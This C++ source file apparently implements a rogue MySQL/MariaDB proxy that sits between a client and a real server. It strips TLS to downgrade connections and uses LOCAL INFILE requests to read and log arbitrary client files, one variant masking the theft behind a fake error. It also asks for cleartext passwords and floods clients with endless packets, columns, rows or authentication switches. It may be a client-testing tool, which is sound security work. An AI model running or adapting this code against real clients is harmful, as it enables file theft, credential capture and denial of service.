// The family's protocol, as far as a man in the middle needs it: packets, the login, and which commands there are.
// Source: MySQL "Client/Server Protocol"; MariaDB "Clients & utilities, protocol".
// SPDX-License-Identifier: MIT
#include <poll.h>

#include <map>

#include "plan.hpp"

namespace rogue {
namespace {

constexpr unsigned kSsl = 0x800;
constexpr unsigned char kMoreResults = 8;

struct Packet {
  unsigned char sequence = 0;
  std::string body;
};

Packet read_packet(Channel& from) {
  const std::string head = from.read(4);
  const auto byte = [&](int i) { return static_cast<std::size_t>(static_cast<unsigned char>(head[static_cast<std::size_t>(i)])); };
  return {static_cast<unsigned char>(head[3]), from.read(byte(0) | byte(1) << 8 | byte(2) << 16)};
}

std::string framed(unsigned char sequence, std::string_view body) {
  std::string out;
  for (int shift = 0; shift < 24; shift += 8) out += static_cast<char>(body.size() >> shift & 0xff);
  out += static_cast<char>(sequence);
  return out.append(body);
}

std::string ok_packet(unsigned char status = 2) { return std::string("\0\0\0", 3) + static_cast<char>(status) + std::string("\0\0\0", 3); }

std::string lenenc(std::string_view text) { return static_cast<char>(text.size()) + std::string(text); }

std::string column(std::string_view name) {
  return lenenc("def") + lenenc("") + lenenc("") + lenenc("") + lenenc(name) + lenenc("") + std::string("\x0c\x2d\0\xff\0\0\0\xfd\0\0\0\0\0", 13);
}

std::string eof_packet() { return std::string("\xfe\0\0\2\0", 5); }

const std::map<unsigned char, std::string> kCommands{{1, "quit"},     {3, "query"}, {0x0e, "ping"}, {0x11, "change-user"}, {0x16, "prepare"},
                                                     {0x17, "execute"}, {0xfa, "execute"}, {0x1f, "reset"}};

class Session {
 public:
  Session(const Plan& plan, Channel& client) : plan_(plan), client_(client), server_(Channel::connect_to(plan.upstream_address, plan.upstream_port)) {}

  void run() {
    log_in();
    for (;;) {
      pollfd both[2] = {{client_.fd(), POLLIN, 0}, {server_.fd(), POLLIN, 0}};
      if (!client_.pending() && ::poll(both, 2, -1) < 0) continue;
      if (client_.pending() || both[0].revents != 0) from_client();
      else from_server();
    }
  }

 private:
  bool due(const std::string& kind) { return plan_.attack != "nothing" && kind == plan_.on && ++seen_ == plan_.nth; }

  /// The greeting loses TLS when we have none ourselves; between us and the real server there is never any.
  void log_in() {
    Packet greeting = read_packet(server_);
    const std::size_t flags = greeting.body.find('\0', 1) + 1 + 4 + 8 + 1;
    auto low = static_cast<unsigned char>(greeting.body[flags + 1]);
    low = static_cast<unsigned char>(plan_.tls ? low | kSsl >> 8 : low & ~(kSsl >> 8));
    greeting.body[flags + 1] = static_cast<char>(low);
    // What would give answers another form than we write: CLIENT_DEPRECATE_EOF, MARIADB_CLIENT_CACHE_METADATA.
    greeting.body[flags + 6] = static_cast<char>(greeting.body[flags + 6] & ~1);
    if (greeting.body.size() > flags + 14) greeting.body[flags + 14] = static_cast<char>(greeting.body[flags + 14] & ~0x10);
    disguise(greeting.body);
    if (due("greeting")) attack(static_cast<unsigned char>(greeting.sequence - 1));
    client_.write(framed(greeting.sequence, greeting.body));
    Packet login = read_packet(client_);
    if ((static_cast<unsigned char>(login.body[1]) & kSsl >> 8) != 0) {
      client_.accept_tls(*plan_.tls);
      login = read_packet(client_);
      shift_ = 1;
    }
    say("login with local files " + std::string((login.body[0] & 0x80) != 0 ? "offered" : "not offered"));
    if (due("login")) attack(login.sequence);
    login.body[1] = static_cast<char>(static_cast<unsigned char>(login.body[1]) & ~(kSsl >> 8));
    server_.write(framed(static_cast<unsigned char>(login.sequence - shift_), login.body));
  }

  void from_client() {
    const Packet p = read_packet(client_);
    const bool command = p.sequence == 0;
    if (command) {
      shift_ = 0;
      const auto known = kCommands.find(p.body.empty() ? 0 : static_cast<unsigned char>(p.body[0]));
      const std::string kind = known == kCommands.end() ? "other" : known->second;
      if (loaded_ && due("loaded")) attack(p.sequence);
      if (kind == "query" && p.body.compare(1, 9, "LOAD DATA") == 0) loaded_ = true;
      const bool meant = plan_.statement.empty() || p.body.find(plan_.statement) != std::string::npos;
      if (meant && due(kind)) return attack(p.sequence);
    }
    server_.write(framed(static_cast<unsigned char>(p.sequence - shift_), p.body));
  }

  void from_server() {
    Packet p = read_packet(server_);
    disguise(p.body);
    // The first packets of an answer say how many columns it has and which.
    if (p.sequence > 6 && due("row")) return attack(static_cast<unsigned char>(p.sequence - 1));
    client_.write(framed(static_cast<unsigned char>(p.sequence + shift_), p.body));
  }

  /// Another version, of the same length, wherever the real one is told.
  void disguise(std::string& body) const {
    if (plan_.version.empty()) return;
    for (auto at = body.find(plan_.version); at != std::string::npos; at = body.find(plan_.version, at)) body.replace(at, plan_.version_as.size(), plan_.version_as);
  }

  void attack(unsigned char after) {
    const std::string& what = plan_.attack;
    const auto next = static_cast<unsigned char>(after + 1);
    say("attack " + what + " on " + plan_.on);
    if (what.rfind("infile", 0) == 0) return ask_for_file(next);
    if (what == "clear") return ask_for_password(next, std::string("\xfe") + "mysql_clear_password" + '\0');
    if (what == "dialog") return ask_for_password(next, std::string("\xfe") + "dialog" + '\0' + "\4Password: ");
    if (what == "silent") listen_only(client_);
    if (what == "drip") drip(client_, framed(next, std::string(1U << 20, 'x')));
    if (what == "huge") flood(client_, framed(next, std::string(0xffffff, '\3')));
    if (what == "progress") endless(next, std::string("\xff\xff\xff\1\1\2\0\0\0\1x", 11));
    if (what == "oks") endless(next, ok_packet(2 | kMoreResults));
    if (what == "infos") flood(client_, framed(next, ok_packet() + std::string("\xfd\xff\xff\xff", 4) + std::string(1U << 20, 'i')));
    if (what == "switches") switches(next);
    answer_with_rows(what, next);
  }

  void answer_with_rows(const std::string& what, unsigned char next) {
    if (what == "many-columns") {
      client_.write(framed(next++, std::string("\xfe\xff\xff\xff\x7f\0\0\0\0", 9)));
      endless(next, column("c"));
    }
    if (what == "columns") {
      client_.write(framed(next++, "\2"));
      endless(next, column("c"));
    }
    client_.write(framed(next++, "\1"));
    client_.write(framed(next++, column("c")));
    client_.write(framed(next++, eof_packet()));
    if (what == "rows") endless(next, lenenc("18446744073709551615"));
    if (what == "few-columns") client_.write(framed(next++, lenenc("x")));
    client_.write(framed(next, eof_packet()));  // no-row ends at once
  }

  void ask_for_file(unsigned char next) {
    client_.write(framed(next, "\xfb" + plan_.file));
    if (plan_.attack == "infile-close") {
      // Whatever else is said afterwards must not hide what was asked for.
      client_.write(framed(static_cast<unsigned char>(next + 2), "\xff\x15\x04#28000all is well"));
      listen_only(client_);
    }
    std::string got;
    Packet p;
    do {
      p = read_packet(client_);
      got += p.body;
      next = p.sequence;
    } while (!p.body.empty());
    say("took " + std::to_string(got.size()) + " bytes: " + shown(got.substr(0, 4096)));
    ++next;
    client_.write(framed(next, plan_.attack == "infile-error" ? std::string("\xff\x15\x04#28000all is well") : ok_packet()));
  }

  void ask_for_password(unsigned char next, const std::string& request) {
    client_.write(framed(next, request));
    listen_only(client_);
  }

  [[noreturn]] void endless(unsigned char next, const std::string& body) {
    for (std::string many;; many.clear()) {
      while (many.size() < 65536) many += framed(next++, body);
      client_.write(many);
    }
  }

  /// From one way to log in to the next, and never an end.
  [[noreturn]] void switches(unsigned char next) {
    const std::string challenge = std::string("\xfe") + "mysql_native_password" + '\0' + "12345678901234567890" + '\0';
    for (int i = 0;; ++i) {
      if (i == 1000) say("1000 switches");
      client_.write(framed(next, challenge));
      next = static_cast<unsigned char>(read_packet(client_).sequence + 1);
    }
  }

  const Plan& plan_;
  Channel& client_;
  Channel server_;
  int seen_ = 0;
  int shift_ = 0;  ///< packets of the login that only this side of us has seen
  bool loaded_ = false;
};

}  // namespace

void serve_mysql(const Plan& plan, Channel& client) { Session(plan, client).run(); }

}  // namespace rogue
